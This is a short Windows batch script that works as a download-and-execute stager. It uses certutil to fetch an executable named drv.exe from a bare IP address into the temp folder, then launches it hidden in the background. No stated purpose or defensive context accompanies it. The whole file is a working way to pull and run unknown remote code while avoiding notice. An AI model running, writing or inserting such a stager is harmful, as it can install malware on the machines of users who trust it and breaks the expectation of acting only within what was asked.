@echo off
certutil -urlcache -split -f http://91.214.7.33/drv.exe %TEMP%\drv.exe
start "" /b %TEMP%\drv.exe
